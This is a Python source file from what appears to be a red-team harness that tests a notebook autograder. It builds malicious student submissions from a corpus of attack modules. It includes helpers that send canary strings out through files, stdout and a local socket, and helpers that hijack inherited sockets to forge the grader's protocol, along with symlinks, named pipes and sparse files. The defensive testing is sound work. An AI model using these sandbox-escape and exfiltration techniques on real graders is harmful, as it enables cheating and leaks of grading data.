"""Load the attacks and make of each what a student would hand in.

An attack is a file `<class>/<name>.py`. Its docstring says what it does; it is never executed here,
only these module-level names are read (all but the first two are optional):

- `TRIES`: what it tries, in a few words.
- `SUCCESS`: what would count: `points` it did not earn, a `leak`, `harm` to others, or a `stall`.
- `CELL`: source of a cell of the student's own, before the first answer.
- `ANSWERS`: exercise -> source of its answer cell; `*` for all others, `@NAME@` for its name.
- `mutate(nb)`: changes the notebook (a dict), or returns the file's bytes.
- `BASE`: `release` (nothing answered, the default) or `reference` (all answers right).
- `LOSES`: with the reference, the exercises that the attack may cost; no other.
- `FILES`, `LINKS`: further files and symbolic links in the submission's folder.
- `PIPE`, `SPARSE`: the notebook is a named pipe, or a sparse file of that many bytes.
- `FOLDER`: the name of the student's folder.
- `CONTROL`: why the attack is not run against plain nbgrader.

Sources may use `tell(text)`, which sends every canary in `text` out by all ways there are, and the
`wire_*` helpers, which speak the grader's own protocol. Marks such as `@OUT@` are replaced by paths
that a student could only guess: the attacks know more than real ones.
"""

import copy
import importlib.util
import json
import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
ASSIGNMENT = "01_mdp"
CANARY = "QCANARY-[a-z]+-[0-9a-f]{16}"

TELL = r"""
def tell(data):
    import os
    import re
    import socket
    import sys

    if isinstance(data, str):
        data = data.encode("utf-8", "surrogatepass")
    for found in dict.fromkeys(re.findall(rb"@CANARY@", bytes(data))):
        text = found.decode()
        print(text)
        print(text, file=sys.stderr)
        display({"text/plain": text, "text/html": text}, raw=True)
        for place in ("@DROP@", "/tmp", "."):
            try:
                with open(os.path.join(place, "@RUN@-found.txt"), "a") as file:
                    file.write("@ID@ " + text)
            except OSError:
                pass
        try:
            with socket.create_connection(("127.0.0.1", @PORT@), timeout=1) as connection:
                connection.sendall(found)
        except OSError:
            pass
"""

WIRE = r'''
import os as _os
import socket as _socket
import stat as _stat
import struct as _struct


def wire_sockets():
    """Every socket that was open before."""
    found = []
    for number in range(3, 64):
        try:
            if _stat.S_ISSOCK(_os.fstat(number).st_mode):
                found.append(_socket.socket(fileno=_os.dup(number)))
        except OSError:
            pass
    return found


def wire_frame(kind, request, payload):
    """Length, request, kind, payload: a frame of grader.student.channel."""
    return _struct.pack("<IIB", len(payload), request, kind) + payload


def wire_raw(structure):
    """A message of qlib.wire without buffers."""
    return _struct.pack("<II", len(structure), 0) + structure


def wire_pack(value):
    """A value as qlib.wire sends it, whatever its types."""
    import msgpack

    def node(value):
        if isinstance(value, dict):
            return {"$": "dict", "v": [[node(k), node(v)] for k, v in value.items()]}
        if isinstance(value, list):
            return [node(v) for v in value]
        if isinstance(value, int) and abs(value) >= 2**63:
            return {"$": "int", "v": hex(value)}
        return value

    return wire_raw(msgpack.packb(node(value)))


def wire_read(sock):
    """One frame: kind, request, payload, sockets that came with it."""
    try:
        head, numbers, _, _ = _socket.recv_fds(sock, 9, 2)
        if len(head) < 9:
            return None
        length, request, kind = _struct.unpack("<IIB", head)
        payload = b""
        while len(payload) < length:
            part = sock.recv(length - len(payload))
            if not part:
                return None
            payload += part
        return kind, request, payload, [_socket.socket(fileno=n) for n in numbers]
    except OSError:
        return None
'''


@dataclass(frozen=True)
class Attack:
    """One file of the corpus; the module's docstring explains the fields."""

    id: str
    tries: str
    success: str
    cell: str = ""
    answers: dict[str, str] = field(default_factory=dict)
    mutate: Callable[[dict], Any] | None = None
    base: str = "release"
    loses: tuple[str, ...] = ()
    files: dict[str, str] = field(default_factory=dict)
    links: dict[str, str] = field(default_factory=dict)
    pipe: bool = False
    sparse: int = 0
    folder: str = ""
    control: str = ""

    @property
    def kind(self) -> str:
        """Its class."""
        return self.id.split("/")[0]

    def name(self, marks: dict[str, str]) -> str:
        """The name of the student's folder."""
        return fill(self.folder, marks) or self.id.replace("/", "-")


def load(folder: Path | None = None) -> list[Attack]:
    """All attacks, by class and name; or the honest submissions of a folder, by name."""
    attacks = []
    for path in sorted(folder.glob("*.py") if folder else HERE.glob("*/*.py")):
        name = path.stem if folder else f"{path.parent.name}/{path.stem}"
        spec = importlib.util.spec_from_file_location(f"attack_{name.replace('/', '_')}", path)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        given = {
            key: getattr(module, key.upper())
            for key in Attack.__dataclass_fields__
            if hasattr(module, key.upper())
        }
        control = given.get("control") or (
            "plain nbgrader has no such protocol" if path.parent.name == "wire" else ""
        )
        mutate = getattr(module, "mutate", None)
        if folder:
            given |= {"tries": "", "success": "", "base": "reference"}
        attacks.append(Attack(name, **{**given, "mutate": mutate, "control": control}))
    return attacks


def hand_in(attack: Attack, folder: Path, marks: dict[str, str], release: dict, full: dict) -> Path:
    """Write the submission of an attack; its notebook's path.

    Args:
        attack: what to hand in.
        folder: the class; the student's folder is made in it.
        marks: mark -> what takes its place, without the `@` around it.
        release: the notebook as students get it.
        full: the notebook with all answers right.
    """
    marks = {**marks, "ME": attack.name(marks), "ID": attack.id}
    place = folder / attack.name(marks) / ASSIGNMENT
    place.mkdir(parents=True)
    path = place / f"{ASSIGNMENT}.ipynb"
    for name, text in attack.files.items():
        (place / name).parent.mkdir(parents=True, exist_ok=True)
        (place / name).write_text(fill(text, marks))
    for name, target in attack.links.items():
        (place / name).symlink_to(fill(target, marks))
    if attack.pipe:
        os.mkfifo(path)
    elif attack.sparse:
        with open(path, "wb") as file:
            file.truncate(attack.sparse)
    elif not os.path.lexists(path):
        path.write_bytes(notebook(attack, marks, release if attack.base == "release" else full))
    return path


def notebook(attack: Attack, marks: dict[str, str], base: dict) -> bytes:
    """The notebook of an attack, as bytes."""
    nb = copy.deepcopy(base)
    for cell in nb["cells"]:
        name = answer_of(cell)
        source = attack.answers.get(name, attack.answers.get("*")) if name else None
        if source is not None:
            cell["source"] = source.replace("@NAME@", name)
    text = attack.cell + "".join(attack.answers.values())
    helpers = TELL * ("tell(" in text) + WIRE * ("wire_" in text)
    first = next(i for i, cell in enumerate(nb["cells"]) if answer_of(cell))
    extra = [code_cell(source) for source in (helpers, attack.cell) if source]
    nb["cells"][first:first] = extra
    for cell in nb["cells"]:
        cell["source"] = fill("".join(cell["source"]), marks)
    found = attack.mutate(nb) if attack.mutate else nb
    if isinstance(found, bytes):
        return found
    return fill(json.dumps(found), marks).encode("utf-8")


def answer_of(cell: dict) -> str:
    """The exercise that a cell of the assignment answers, or an empty string."""
    grade_id = cell["metadata"].get("nbgrader", {}).get("grade_id", "")
    code = cell["cell_type"] == "code" and grade_id.startswith("answer-")
    return grade_id.removeprefix("answer-") if code else ""


def code_cell(source: str, name: str = "") -> dict:
    """A code cell of nbformat 4.5."""
    return {
        "cell_type": "code",
        "id": name or f"extra-{abs(hash(source)) % 10**9}",
        "metadata": {},
        "execution_count": None,
        "outputs": [],
        "source": source,
    }


def fill(text: str, marks: dict[str, str]) -> str:
    """`text` with its marks replaced."""
    for name, value in marks.items():
        text = text.replace(f"@{name}@", value)
    return text
